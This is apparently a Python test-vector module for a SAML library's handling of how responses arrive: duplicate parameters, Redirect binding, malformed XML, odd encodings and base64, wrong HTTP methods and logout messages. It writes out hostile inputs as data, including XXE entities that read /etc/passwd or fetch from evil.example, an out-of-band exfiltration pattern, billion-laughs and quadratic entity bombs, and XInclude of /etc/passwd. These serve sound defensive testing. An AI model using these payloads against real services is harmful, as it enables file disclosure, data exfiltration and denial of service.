"""Rows S79 to S97: how a message comes, what its octets are before they are XML, and messages that nobody takes."""

import base64
import zlib
from collections.abc import Iterator
from urllib.parse import quote, urlsplit

from tests.builders_saml import ACS, IDP, NAME, NOW
from tests.saml.test_trust import EVIL
from tests.vectors.saml.corpus import Vector, accepted, message, refused, renamed, swap

from vestibule.saml.instant import write_instant
from vestibule.saml.names import ASSERTION, PROTOCOL

FAMILY = "transport"
FORM_TYPE = "application/x-www-form-urlencoded"
HOST = urlsplit(ACS).netloc
TARGET = ACS.removeprefix(f"https://{HOST}")
NOT_BASE64, ENCODING = "saml.base64", "xml.encoding"
NO_RESPONSE, NOT_FOUND = "saml.no_response", "request.not_found"


def vectors() -> Iterator[Vector]:
    """This family, row by row."""
    yield from _honest()
    yield from _parameters()
    yield from _redirects()
    yield from _document_types()
    yield from _not_well_formed()
    yield from _encodings()
    yield from _base64()
    yield from _requests()
    yield from _logout()


def request(body: bytes | str, *, method: str = "POST", target: str = TARGET, media: str | None = FORM_TYPE) -> bytes:
    """A whole request, as it is sent."""
    octets = body.encode() if isinstance(body, str) else body
    lines = [f"{method} {target} HTTP/1.1", f"Host: {HOST}", f"Content-Length: {len(octets)}"]
    if media is not None:
        lines.append(f"Content-Type: {media}")
    return "\r\n".join((*lines, "", "")).encode() + octets


def form(**fields: bytes) -> str:
    """A form body; the messages in base64."""
    return "&".join(f"{name}={quote(base64.b64encode(value), safe='')}" for name, value in fields.items())


def http(row: str, name: str, code: str, attack: str, octets: bytes, *, status: int = 400) -> Vector:
    return refused(row, name, code, attack, octets, form="http", status=status)


def squeezed(octets: bytes) -> bytes:
    """A raw DEFLATE stream of stored blocks: the same octets whatever library makes it."""
    blocks = [octets[at : at + 65535] for at in range(0, len(octets), 65535)]
    return b"".join(
        bytes((at == len(blocks) - 1,))
        + len(block).to_bytes(2, "little")
        + (len(block) ^ 0xFFFF).to_bytes(2, "little")
        + block
        for at, block in enumerate(blocks)
    )


# One vector a line:
# fmt: off


def _honest() -> Iterator[Vector]:
    plain = message()
    yield accepted(FAMILY, "declaration", "An XML declaration that says UTF-8.", b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + plain)
    lines = base64.encodebytes(plain).replace(b"\n", b"\r\n")
    yield accepted(FAMILY, "lines", "base64 in lines of 76, as MIME writes it.", lines, form="base64")
    for name in ("no-relay-state", "relay-state"):
        state = "&RelayState=https%3A%2F%2Fevil.example%2F" if name == "relay-state" else ""
        yield accepted(FAMILY, name, "An ordinary form; RelayState leads nowhere by itself.", request(form(SAMLResponse=plain) + state), form="http", status=303)
    query = f"{TARGET}&{form(SAMLResponse=message(sign='none', name_id=EVIL))}"
    yield accepted(FAMILY, "another-in-the-query", "What the query says beside the connection is not read.", request(form(SAMLResponse=plain), target=query), form="http", status=303)
    yield accepted(FAMILY, "schema-location", "An address of a schema, which nobody fetches.", swap(plain, b"<samlp:Response ", b'<samlp:Response xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u:x http://evil.example/x.xsd" '))
    included = b'<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></samlp:Extensions>'
    yield accepted(FAMILY, "xinclude", "An inclusion, which nobody follows.", swap(plain, b"<samlp:Status>", included + b"<samlp:Status>"))


def _parameters() -> Iterator[Vector]:
    good, evil = form(SAMLResponse=message()), form(SAMLResponse=message(sign="none", name_id=EVIL))
    twice = "request.duplicate_parameter"
    yield http("S82", "good-then-evil", twice, "Two SAMLResponses, the first of them good.", request(f"{good}&{evil}"))
    yield http("S82", "evil-then-good", twice, "Two SAMLResponses, the last of them good.", request(f"{evil}&{good}"))
    yield http("S82", "the-same-twice", twice, "The same SAMLResponse twice.", request(f"{good}&{good}"))
    encoded = evil.replace("SAMLResponse", "SAML%52esponse")
    yield http("S82", "name-percent-encoded", twice, "The second one's name is percent-encoded.", request(f"{good}&{encoded}"))
    yield http("S82", "two-relay-states", twice, "Two RelayStates.", request(f"{good}&RelayState=a&RelayState=b"))
    yield http("S82", "request-and-response", NO_RESPONSE, "A SAMLRequest beside the SAMLResponse.", request(f"{good}&SAMLRequest=AAAA"))
    yield http("S82", "artifact-and-response", NO_RESPONSE, "A SAMLart beside the SAMLResponse.", request(f"{good}&SAMLart=AAAA"))
    yield http("S82", "other-case", NO_RESPONSE, "The name in another case.", request(good.replace("SAMLResponse", "samlresponse")))
    yield http("S82", "in-the-query", NO_RESPONSE, "The SAMLResponse in the query of a POST.", request("RelayState=x", target=f"{TARGET}&{good}"))
    yield http("S82", "evil-in-the-body-good-in-the-query", "saml.unsigned", "A good one in the query does not help the one in the body.", request(evil, target=f"{TARGET}&{good}"))
    yield http("S82", "two-connections", twice, "Two connections in the query.", request(good, target=f"{TARGET}&connection=other"))
    yield http("S82", "semicolons", NOT_BASE64, "A second field behind a semicolon, which some parsers take for an end.", request(f"{good};SAMLResponse=AAAA"))
    yield http("S77", "artifact", NO_RESPONSE, "An artifact, to be resolved elsewhere.", request("SAMLart=AAQAAMh48%2F1oXIM%2BsDo7Dh2qMp1HM4IF5DaRNmDj6RdUmllwn9jJHyEgIi8%3D"))


def _redirects() -> Iterator[Vector]:
    octets = message()
    value = quote(base64.b64encode(squeezed(octets)), safe="")
    no = "request.method"
    for name, query in {
        "unsigned": f"SAMLResponse={value}",
        "signed": f"SAMLResponse={value}&SigAlg=http%3A%2F%2Fwww.w3.org%2F2001%2F04%2Fxmldsig-more%23rsa-sha256&Signature=AAAA",
        "other-order": f"Signature=AAAA&SigAlg=x&SAMLResponse={value}",
        "lower-case-escapes": f"SAMLResponse={value.replace('%2B', '%2b').replace('%2F', '%2f')}&SigAlg=x&Signature=AAAA",
        "without-algorithm": f"SAMLResponse={value}&Signature=AAAA",
    }.items():
        yield http("S83", name, no, f"A Response by Redirect ({name.replace('-', ' ')}): none is taken so [SAMLProf 4.1.2].", request("", method="GET", target=f"{TARGET}&{query}", media=None), status=405)
    yield refused("S84", "deflated", ENCODING, "A Response that is compressed, as by Redirect, in a form.", base64.b64encode(squeezed(octets)), form="base64")
    yield refused("S84", "zlib", ENCODING, "The same with a zlib header: nothing is inflated at this address.", base64.b64encode(b"x\x01" + squeezed(octets) + zlib.adler32(octets).to_bytes(4, "big")), form="base64")


def _document_types() -> Iterator[Vector]:
    for name, octets in with_document_type("file:///etc/passwd", "http://evil.example/evil.dtd").items():
        yield refused("S86", name, "xml.doctype", f"A document type: {name.replace('-', ' ')}.", octets)
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]>'.encode()
    yield refused("S86", "billion-laughs", "xml.doctype", "Ten entities, each ten times the one before.", bomb + _naming(b"&l9;"))
    quadratic = b'<!DOCTYPE r [<!ENTITY a "' + b"a" * 1000 + b'">]>'
    yield refused("S86", "quadratic", "xml.doctype", "One long entity, many times.", quadratic + _naming(b"&a;" * 100))


def with_document_type(file: str, address: str) -> dict[str, bytes]:
    """Signed messages before which stands a document type that asks for this file and this address."""
    plain = message()
    return {"external-entity-file": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>'.encode() + _naming(b"&x;"), "external-entity-http": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{address}">]>'.encode() + _naming(b"&x;"), "external-subset-file": f'<!DOCTYPE r SYSTEM "{file}">'.encode() + plain, "external-subset-http": f'<!DOCTYPE r PUBLIC "x" "{address}">'.encode() + plain, "parameter-entity": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{address}"> %p;]>'.encode() + plain, "parameter-entity-that-carries-out": f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p SYSTEM "{address}"> %p; %f;]>'.encode() + plain}


def _naming(entity: bytes) -> bytes:
    return renamed(message(), entity)


def _not_well_formed() -> Iterator[Vector]:
    plain = message()
    for name, (what, octets) in {
        "open": ("Elements that are not closed.", plain[: plain.index(b"</samlp:Response>")]),
        "crossed": ("Elements that are closed crosswise.", swap(plain, b"</saml:Subject>", b"</saml:Conditions>")),
        "two-attributes": ("An attribute twice.", swap(plain, b'ID="_response-1"', b'ID="_response-1" ID="_x"')),
        "two-attributes-by-namespace": ("An attribute twice, by two prefixes of one namespace.", swap(plain, b"<samlp:Status>", b'<samlp:Status xmlns:a="u:x" xmlns:b="u:x" a:c="1" b:c="2">')),
        "unbound-prefix": ("A prefix that means nothing.", swap(plain, b"<samlp:Status>", b"<samlp:Status x:y='1'>")),
        "bare-ampersand": ("An ampersand that begins nothing.", renamed(plain, b"a & b")),
        "cut-off": ("The first half.", plain[: len(plain) // 2]),
        "no-xml": ("Something else entirely.", b"SAML"),
        "html": ("A page.", b"<html><body>Sign in<br></body></html>"),
        "json": ("JSON.", b'{"saml": true}'),
    }.items():
        yield refused("S87", name, "xml.malformed", f"{what} The answer tells nothing of what the parser said.", octets)


def _encodings() -> Iterator[Vector]:
    plain = message().decode()
    declared = '<?xml version="1.0" encoding="{}"?>'
    for name, octets in {
        "utf-16": plain.encode("utf-16"),
        "utf-16-big-endian": plain.encode("utf-16-be"),
        "utf-16-declared": (declared.format("utf-16") + plain).encode("utf-16"),
        "utf-32": plain.encode("utf-32"),
        "utf-7": (declared.format("utf-7") + plain.replace("<saml:Issuer>", "+ADw-saml:Issuer+AD4-")).encode(),
        "utf-8-declared-as-utf-16": (declared.format("utf-16") + plain).encode(),
        "latin-1": (declared.format("iso-8859-1") + plain.replace(NAME, "ad\xe9@acme.example")).encode("latin-1"),
        "latin-1-undeclared": plain.replace(NAME, "ad\xe9@acme.example").encode("latin-1"),
        "ascii-declared": (declared.format("us-ascii") + plain).encode(),
        "ebcdic": (declared.format("cp037") + plain).encode("cp037"),
        "byte-order-mark": b"\xef\xbb\xbf" + plain.encode(),
        "nul": plain.replace(NAME, "ada\0").encode(),
        "surrogate": plain.encode().replace(NAME.encode(), b"ada\xed\xa0\x80"),
        "overlong": plain.encode().replace(NAME.encode(), b"ada\xc0\xaf"),
        "overlong-nul": plain.encode().replace(NAME.encode(), b"ada\xc0\x80"),
        "beyond-unicode": plain.encode().replace(NAME.encode(), b"ada\xf4\x90\x80\x80"),
        "cut-sequence": plain.encode().replace(NAME.encode(), b"ada\xe2\x82"),
        "version-1.1": b'<?xml version="1.1"?>' + plain.encode(),
        "version-2.0": b'<?xml version="2.0"?>' + plain.encode(),
    }.items():
        yield refused("S88", name, ENCODING, f"Another encoding than UTF-8, or another that is said to be: {name.replace('-', ' ')}.", octets)
    for name, reference in {
        "surrogate-reference": "&#xD800;",
        "nul-reference": "&#x0;",
        "control-reference": "&#x1;",
        "noncharacter-reference": "&#xFFFF;",
    }.items():
        yield refused("S88", name, "xml.malformed", f"The character reference {reference}, of no character.", plain.replace(NAME, f"ada{reference}").encode())


def _base64() -> Iterator[Vector]:
    # So many octets that one `=` is needed, and signs that both alphabets write differently.
    octets = message(name_id="a>?b\u00ff" + "x" * 3)
    octets += b"\n" * ((2 - len(octets)) % 3)
    value = base64.b64encode(octets)
    assert value.endswith(b"=")
    assert b"+" in value
    for name, (what, wrong) in {
        "space-for-plus": ("Spaces where a plus was: decoded once too often.", value.replace(b"+", b" ")),
        "spaces": ("Spaces at the ends of lines.", value[:76] + b" \r\n" + value[76:]),
        "tabs": ("Tabs.", value[:76] + b"\t" + value[76:]),
        "url-alphabet": ("The alphabet of URLs.", base64.urlsafe_b64encode(octets)),
        "no-padding": ("Without its padding.", value.rstrip(b"=")),
        "padding-alone": ("Padding, and nothing before it.", b"===="),
        "more-padding": ("With too much padding.", value + b"="),
        "padding-in-the-middle": ("Two values, one behind the other.", value + value),
        "trailing-garbage": ("Something behind the padding.", value + b"!"),
        "percent-encoded": ("Percent-encoded once more.", quote(value, safe="").encode()),
        "armoured": ("Between lines, as a certificate is.", b"-----BEGIN SAML-----\n" + value + b"\n-----END SAML-----"),
        "data-address": ("As an address of data.", b"data:text/xml;base64," + value),
        "bare-xml": ("XML, in no base64 at all.", octets),
        "not-ascii": ("Letters that are not ASCII.", "\u0410".encode() + value[1:]),
        "empty": ("Nothing.", b""),
        "line-breaks-alone": ("Line breaks, and nothing else.", b"\r\n" * 10),
    }.items():
        yield refused("S89", name, NOT_BASE64, what, wrong, form="base64")
    yield refused("S89", "twice", "xml.malformed", "base64 of base64.", base64.b64encode(value), form="base64")


def _requests() -> Iterator[Vector]:
    good = form(SAMLResponse=message())
    for method in ("GET", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH"):
        yield http("S95", method.lower(), "request.method", f"The consumer is asked by {method}.", request(good, method=method), status=405)
    boundary = (
        b'--b\r\nContent-Disposition: form-data; name="SAMLResponse"\r\n\r\n'
        + base64.b64encode(message())
        + b"\r\n--b--\r\n"
    )
    for name, body, media in (
        ("json", '{"SAMLResponse": ""}', "application/json"),
        ("multipart", boundary, "multipart/form-data; boundary=b"),
        ("text", good, "text/plain"),
        ("xml", message(), "text/xml"),
        ("no-type", good, None),
        ("two-types", good, f"text/plain, {FORM_TYPE}"),
    ):
        yield http("S95", f"type-{name}", "request.content_type", f"The body is of another type: {name.replace('-', ' ')}.", request(body, media=media), status=415)
    yield http("S95", "empty", NO_RESPONSE, "An empty form.", request(""))


def _logout() -> Iterator[Vector]:
    now, later = write_instant(NOW), "2026-03-04T11:00:00Z"
    said = f'xmlns:samlp="{PROTOCOL}" xmlns:saml="{ASSERTION}" ID="_l" Version="2.0" IssueInstant="{now}" Destination="{ACS}"'
    issuer, name = f"<saml:Issuer>{IDP}</saml:Issuer>", f"<saml:NameID>{NAME}</saml:NameID>"
    captured = message()
    signed = captured[captured.index(b"<saml:Assertion") : captured.index(b"</samlp:Response>")].decode()
    end = "</samlp:LogoutRequest>"
    documents = {
        ("S96", "wraps-a-signed-assertion"): f"<samlp:LogoutRequest {said}>{issuer}<samlp:Extensions>{signed}</samlp:Extensions>{name}{end}",
        ("S96", "wraps-it-as-a-child"): f"<samlp:LogoutRequest {said}>{issuer}{signed}{name}{end}",
        ("S97", "request"): f"<samlp:LogoutRequest {said}>{issuer}{name}{end}",
        ("S97", "response"): f'<samlp:LogoutResponse {said}>{issuer}<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>',
        ("S98", "expired"): f'<samlp:LogoutRequest {said} NotOnOrAfter="{later}">{issuer}{name}{end}',
        ("S98", "other-issuer"): f"<samlp:LogoutRequest {said}><saml:Issuer>https://evil.example</saml:Issuer>{name}{end}",
        ("S98", "other-destination"): f"<samlp:LogoutRequest {said.replace(ACS, 'https://evil.example')}>{issuer}{name}{end}",
        ("S98", "other-name"): f"<samlp:LogoutRequest {said}>{issuer}<saml:NameID>{EVIL}</saml:NameID>{end}",
        ("S98", "encrypted-name"): f"<samlp:LogoutRequest {said}>{issuer}<saml:EncryptedID/>{end}",
    }  # fmt: skip
    for (row, kind), document in documents.items():
        what = f"A logout message ({kind.replace('-', ' ')})"
        yield refused(row, f"{kind}-as-a-response", "saml.not_a_response", f"{what}, posted where responses are.", document.encode())
        parameter = "SAMLResponse" if kind == "response" else "SAMLRequest"
        posted = form(**{parameter: document.encode()})
        if parameter == "SAMLRequest":
            yield http(row, f"{kind}-at-the-consumer", NO_RESPONSE, f"{what}, as what it is, where responses are posted.", request(posted))
        yield http(row, f"{kind}-at-the-logout-address", NOT_FOUND, f"{what}, at the address that will take them: nothing is served there yet.", request(posted, target="/saml/slo/acme"), status=404)
